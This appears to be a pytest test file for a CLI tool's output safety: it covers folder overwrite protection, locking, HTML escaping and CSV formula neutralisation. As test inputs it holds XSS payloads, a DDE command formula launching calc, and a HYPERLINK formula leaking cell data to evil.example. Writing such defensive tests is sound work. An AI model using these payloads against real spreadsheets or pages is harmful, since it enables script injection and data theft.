"""Output folders never lose a user's file; user text never becomes live code in the outputs.

Issue 9 (deliverables 1 and 6): an existing ``--out`` is replaced only when incubo wrote it
(marker :data:`incubo_analysis.io.OUTPUT_MARKER`), the working and project folders are
refused, concurrent runs on one folder are serialised by a lock, a killed run's temporary
folders are removed by the next run; the HTML report escapes every user string and carries
a Content-Security-Policy without scripts; CSV cells that a spreadsheet would run as a
formula are neutralised.
"""

from __future__ import annotations

import csv
import os
import shutil
import signal
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from incubo_analysis.cli.main import main
from incubo_analysis.io import OUTPUT_MARKER
from incubo_analysis.labels import relabel
from incubo_analysis.monitoring.annual import report_tables, validate_report_inputs
from incubo_analysis.outputs import report as R
from incubo_analysis.paths import BASELINE_PARAMS, EXAMPLE_ACTUALS, PARAMS_DIR, ROOT

UNCERTAINTY = str(PARAMS_DIR / "uncertainty.yaml")
SCENARIO_FILES = [OUTPUT_MARKER, "metrics.csv", "savings.csv"]

#: One cheap run of each command that writes a folder, with ``DIR`` for the output.
COMMANDS = {
    "scenario": ["scenario", str(BASELINE_PARAMS), "--out", "DIR"],
    "montecarlo": ["montecarlo", UNCERTAINTY, "--draws", "200", "--seed", "1", "--out", "DIR"],
    "sensitivity": ["sensitivity", UNCERTAINTY, "--out", "DIR"],
    "report": ["report", "--year", "2021", "--actuals", str(EXAMPLE_ACTUALS), "--out", "DIR"],
    "check": ["check", "--processed", "DIR"],
}


def _argv(command: str, out: Path | str) -> list[str]:
    return [str(out) if a == "DIR" else a for a in COMMANDS[command]]


def _refused(capsys, argv: list[str], *fragments: str) -> str:
    rc = main(argv)
    err = capsys.readouterr().err
    assert rc == 2, err
    lines = [ln for ln in err.splitlines() if "validation" not in ln]  # the report's progress line
    assert "Traceback" not in err and len(lines) == 1 and " : erreur : " in lines[0], err  # French by default
    for fragment in fragments:
        assert fragment in err, err
    return err


# --- a user's folder is never replaced ---------------------------------------------------------


@pytest.mark.parametrize("command", ["scenario", "montecarlo", "sensitivity", "report"])
def test_a_user_folder_is_refused_and_kept_intact(tmp_path, capsys, command):
    out = tmp_path / "mydocs"
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"three years of work")
    _refused(capsys, _argv(command, out), "--out", "contient thesis.docx, qu'incubo n'a pas écrit",
             "choisissez un autre dossier")
    assert [p.name for p in out.iterdir()] == ["thesis.docx"]
    assert (out / "thesis.docx").read_bytes() == b"three years of work"
    assert [p.name for p in tmp_path.iterdir()] == ["mydocs"]  # nothing created beside it


def test_check_writes_beside_user_files_but_never_over_one(tmp_path, capsys):
    out = tmp_path / "processed"
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"mine")
    assert main(_argv("check", out)) == 0
    assert main(_argv("check", out)) == 0  # its own tables: replaced
    assert (out / "thesis.docx").read_bytes() == b"mine"  # anything else: left alone
    other = tmp_path / "other"
    other.mkdir()
    (other / "reconciliation.csv").write_text("my own reconciliation", encoding="utf-8")
    _refused(capsys, _argv("check", other), "--processed", "contient reconciliation.csv, qu'incubo n'a pas écrit")
    assert [p.name for p in other.iterdir()] == ["reconciliation.csv"]
    assert (other / "reconciliation.csv").read_text(encoding="utf-8") == "my own reconciliation"


def test_a_folder_written_by_incubo_is_replaced(tmp_path, capsys):
    out = tmp_path / "out"
    assert main(_argv("scenario", out)) == 0
    assert sorted(p.name for p in out.iterdir()) == SCENARIO_FILES
    assert main(_argv("sensitivity", out)) == 0
    assert sorted(p.name for p in out.iterdir()) == [OUTPUT_MARKER, "tornado.csv"]
    assert (out / OUTPUT_MARKER).read_text(encoding="utf-8").startswith("# written by `incubo sensitivity`")
    (out / "notes.txt").write_text("added by the user", encoding="utf-8")
    _refused(capsys, _argv("scenario", out), "contient notes.txt, qu'incubo n'a pas écrit")
    assert (out / "notes.txt").exists() and (out / "tornado.csv").exists()


def test_an_empty_folder_is_taken(tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    assert main(_argv("scenario", out)) == 0
    assert sorted(p.name for p in out.iterdir()) == SCENARIO_FILES


# --- folders that are never outputs ------------------------------------------------------------


@pytest.fixture
def workdir(tmp_path, monkeypatch) -> Path:
    """A working folder two levels below tmp_path, holding a file of the user's."""
    work = tmp_path / "home" / "work"
    work.mkdir(parents=True)
    (work / "thesis.docx").write_bytes(b"mine")
    monkeypatch.chdir(work)
    return work


@pytest.mark.parametrize("command", ["scenario", "check"])
@pytest.mark.parametrize("out", [".", "..", "ANCESTOR"])
def test_the_working_folder_and_its_parents_are_refused(workdir, tmp_path, capsys, command, out):
    out = str(tmp_path) if out == "ANCESTOR" else out
    _refused(capsys, _argv(command, out), f" {out}: est le dossier de travail ou l'un de ses parents")
    assert sorted(p.name for p in workdir.iterdir()) == ["thesis.docx"]
    assert sorted(p.name for p in workdir.parent.iterdir()) == ["work"]


def test_the_project_folder_and_its_parent_are_refused(workdir, capsys):
    for out in (ROOT, ROOT.parent):
        _refused(capsys, _argv("scenario", out), "est le dossier du projet ou l'un de ses parents")


def test_a_folder_holding_data_raw_is_refused_even_with_a_marker(workdir, tmp_path, capsys):
    clone = tmp_path / "clone"
    (clone / "data" / "raw").mkdir(parents=True)
    (clone / OUTPUT_MARKER).write_text("# written by `incubo scenario` (incubo-analysis).\n", encoding="utf-8")
    _refused(capsys, _argv("scenario", clone), "contient un dossier data/raw")
    _refused(capsys, _argv("check", clone), "contient un dossier data/raw")
    assert (clone / "data" / "raw").is_dir()


@pytest.mark.parametrize("command", ["scenario", "montecarlo", "report", "check"])
def test_a_parent_that_is_a_file_exits_2(tmp_path, capsys, command):
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    _refused(capsys, _argv(command, tmp_path / "file.txt" / "out"), "file.txt est un fichier, pas un dossier")


def test_refusals_in_english_with_lang_en(tmp_path, capsys):
    """The same refusal, worded in English for ``--lang en`` (the reader's language, not the code's)."""
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    rc = main([*_argv("scenario", tmp_path / "file.txt" / "out"), "--lang", "en"])
    err = capsys.readouterr().err
    assert rc == 2 and "Traceback" not in err and len(err.splitlines()) == 1, err
    assert "error:" in err and "file.txt is a file, not a folder; choose another output folder" in err, err


@pytest.mark.parametrize("command", ["scenario", "check"])
def test_a_read_only_parent_exits_2(tmp_path, capsys, command):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        if os.access(ro, os.W_OK):
            pytest.skip("permissions do not bind this user (root); see test_io for the same path forced")
        _refused(capsys, _argv(command, ro / "out"), "impossible d'écrire dans", "(permission refusée)")
    finally:
        ro.chmod(0o755)


# --- concurrent and killed runs ----------------------------------------------------------------

_WORKER = textwrap.dedent("""
    import sys
    from incubo_analysis.cli.main import main
    out, runs, params = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    codes = [main(["scenario", params, "--out", out]) for _ in range(runs)]
    print("exit codes:", *codes)
""")

PROCESSES, RUNS = 6, 5


def _check_complete(out: Path, reference: Path) -> None:
    assert sorted(p.name for p in out.iterdir()) == SCENARIO_FILES
    for name in SCENARIO_FILES:
        assert (out / name).read_bytes() == (reference / name).read_bytes(), name
    assert len(pd.read_csv(out / "metrics.csv")) > 0 and len(pd.read_csv(out / "savings.csv")) > 0


@pytest.mark.slow
def test_concurrent_runs_on_one_folder_are_serialised(tmp_path):
    reference = tmp_path / "ref" / "out"
    assert main(_argv("scenario", reference)) == 0
    race = tmp_path / "race"
    race.mkdir()
    out = race / "out"
    procs = [subprocess.Popen([sys.executable, "-c", _WORKER, str(out), str(RUNS), str(BASELINE_PARAMS)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
             for _ in range(PROCESSES)]
    results = [p.communicate(timeout=300) for p in procs]  # hang guard only
    codes = [int(c) for stdout, _ in results for c in stdout.splitlines()[-1].split()[2:]]
    assert len(codes) == PROCESSES * RUNS, results
    for (_, stderr), proc in zip(results, procs, strict=True):
        assert proc.returncode == 0 and "Traceback" not in stderr, stderr
        for line in stderr.splitlines():  # a refusal may only be the lock's
            assert "another incubo run is writing" in line, line
    assert set(codes) <= {0, 2}
    assert codes.count(2) == sum(len(stderr.splitlines()) for _, stderr in results)
    _check_complete(out, reference)
    assert sorted(p.name for p in race.iterdir()) == [".out.lock", "out"]  # no leftover


_KILLED = textwrap.dedent("""
    import os, signal, sys
    from pathlib import Path
    from incubo_analysis.io import atomic_output_dir
    out, when = Path(sys.argv[1]), sys.argv[2]
    real_replace = os.replace

    def replace(src, dst):  # dies when moving the new folder into place
        if Path(src).name.startswith(f".{out.name}.tmp-"):
            os.kill(os.getpid(), signal.SIGKILL)
        return real_replace(src, dst)

    os.replace = replace
    with atomic_output_dir(out, command="incubo scenario") as tmp:
        (tmp / "savings.csv").write_text("lever,ye")
        if when == "writing":
            os.kill(os.getpid(), signal.SIGKILL)
""")


@pytest.mark.slow
@pytest.mark.parametrize("when", ["writing", "swapping"])
def test_a_killed_run_leaves_nothing_after_the_next_run(tmp_path, when):
    reference = tmp_path / "ref" / "out"
    assert main(_argv("scenario", reference)) == 0
    base = tmp_path / "base"
    out = base / "out"
    assert main(_argv("scenario", out)) == 0  # a previous output
    killed = subprocess.run([sys.executable, "-c", _KILLED, str(out), when], capture_output=True, timeout=120)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    left = sorted(p.name.rsplit("-", 1)[0] for p in base.iterdir())
    expected = [".out.lock", ".out.tmp", "out"] if when == "writing" else [".out.lock", ".out.old", ".out.tmp"]
    assert left == expected  # the mess a kill -9 leaves
    # the next run, in its own process so that a lock left held would show as a hang (timeout)
    nxt = subprocess.run([sys.executable, "-m", "incubo_analysis", *_argv("scenario", out)],
                         capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert nxt.returncode == 0, nxt.stderr
    _check_complete(out, reference)
    assert sorted(p.name for p in base.iterdir()) == [".out.lock", "out"]


# --- the HTML report escapes user text ---------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"


class _Page(HTMLParser):
    """Tags, event-handler attributes, script contents and text of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def hostile_inputs(tmp_path):
    """Report inputs whose scenario name, description and actuals file name are markup."""
    scenario = tmp_path / "evil.yaml"
    text = BASELINE_PARAMS.read_text(encoding="utf-8")
    text = text.replace("name: baseline", f'name: "{SCRIPT}"', 1)
    text = "\n".join(f'description: "{IMG} **bold** [x](javascript:alert(2))"' if ln.startswith("description:")
                     else ln for ln in text.splitlines())
    scenario.write_text(text + "\n", encoding="utf-8")
    actuals = tmp_path / f"{IMG}.xlsx"
    shutil.copyfile(EXAMPLE_ACTUALS, actuals)
    return validate_report_inputs(year=2021, actuals=actuals, scenario=scenario)


def _fake_notebook(path: Path, explanation: str) -> Path:
    """An executed notebook as papermill leaves it: a heading and a table shown by pandas."""
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell("# Écarts\n\nTexte du carnet."))
    cell = nbformat.v4.new_code_cell("tables.savings_explanations(gaps, year)")
    table = relabel(pd.DataFrame({"lever": ["user_support"], "explanation": [explanation]}))
    cell.outputs = [nbformat.v4.new_output("execute_result", execution_count=1,
                                           data={"text/html": table._repr_html_(), "text/plain": "t"})]
    nb.cells.append(cell)
    nbformat.write(nb, path)
    return path


def test_report_page_escapes_user_text_and_has_no_script(hostile_inputs, tmp_path):
    inputs = hostile_inputs
    assert inputs.scenario.name == SCRIPT and IMG in inputs.shown["actuals"]
    summary = R.summary_table(inputs, report_tables(inputs))
    executed = {"04": _fake_notebook(tmp_path / "04.ipynb", f"{SCRIPT} {IMG}")}
    page = tmp_path / "report.html"
    R._html(executed, inputs, R.provenance(inputs), page, summary)
    html = page.read_text(encoding="utf-8")
    parsed = _Page()
    parsed.feed(html)
    tags = [t for t, _ in parsed.tags]
    assert "script" not in tags  # no script at all: neither the user's nor nbconvert's
    assert not [(t, a) for t, a in parsed.tags if any(k.startswith("on") for k in a)]  # no event handler
    assert not [a for t, a in parsed.tags if t == "img" and not a.get("src", "").startswith("data:")]
    assert not [a for t, a in parsed.tags if t == "a" and "javascript" in a.get("href", "")]
    text = "".join(parsed.text)
    assert text.count(SCRIPT) >= 3  # intro, provenance, the notebook's table: shown as text
    assert text.count(f"{IMG}.xlsx") >= 2  # intro and provenance
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&#60;script&#62;" in html
    csp = [a for t, a in parsed.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in csp[0]["content"] and "script-src" not in csp[0]["content"]
    assert html.index("Content-Security-Policy") < html.index("<style")  # before any content


def test_markdown_syntax_in_user_text_stays_text(hostile_inputs, tmp_path):
    """Pipes, backticks, stars, brackets and line breaks cannot reshape the provenance table."""
    prov = {"actuals": "a|b`c`*d*\n\n# e [f](javascript:g) <i>h</i>", "scenario": "x"}
    page = tmp_path / "report.html"
    R._html({}, hostile_inputs, prov, page, pd.DataFrame(columns=["indicator_label", "value", "unit"]))
    parsed = _Page()
    parsed.feed(page.read_text(encoding="utf-8"))
    tags = [t for t, _ in parsed.tags]
    source = page.read_text(encoding="utf-8")
    assert "<i>h</i>" not in source and "<em>d</em>" not in source and "code" in tags  # the page's own <em> aside
    assert not [a for t, a in parsed.tags if t == "a" and "javascript" in a.get("href", "")]
    assert "a|b`c`*d* # e [f](javascript:g) <i>h</i>" in "".join(parsed.text)  # line breaks: a space
    assert tags.count("td") == 4  # two provenance rows of two cells: no column or row split off


# --- CSV outputs neutralise formulas -----------------------------------------------------------


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_scenario_name_is_neutralised_in_metrics_and_savings(tmp_path):
    scenario = tmp_path / "cmd.yaml"
    text = BASELINE_PARAMS.read_text(encoding="utf-8").replace("name: baseline", "name: \"=cmd|' /C calc'!A0\"", 1)
    scenario.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["scenario", str(scenario), "--out", str(out)]) == 0
    metrics = _csv_rows(out / "metrics.csv")
    assert {r["scenario"] for r in metrics} == {"'=cmd|' /C calc'!A0"}
    assert all(float(r["value"]) == float(r["value"]) for r in metrics if r["value"])  # numbers stay numbers
    assert {r["scenario"] for r in _csv_rows(out / "savings.csv")} == {"'=cmd|' /C calc'!A0"}


def test_explanation_is_neutralised_in_savings_variance(tmp_path):
    actuals = tmp_path / "actuals.xlsx"
    wb = openpyxl.load_workbook(EXAMPLE_ACTUALS)
    ws = wb["Économies"]  # the example is French
    col = [c.value for c in ws[1]].index("Explication de l'écart") + 1
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 2).value == 2021)
    cell = ws.cell(row, col)
    cell.value = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
    cell.data_type = "s"  # a text that looks like a formula, as a user would type it with a quote
    wb.save(actuals)
    inputs = validate_report_inputs(year=2021, actuals=actuals, scenario=None)
    R._write_tables(inputs, tmp_path)
    explanations = [r["explanation"] for r in _csv_rows(tmp_path / "savings_variance.csv")]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"details")' in explanations
    assert not [e for e in explanations if e.startswith(("=", "+", "@"))]
    variances = [r["variance_keur"] for r in _csv_rows(tmp_path / "savings_variance.csv")]
    assert any(v.startswith("-") for v in variances)  # negative numbers stay numbers
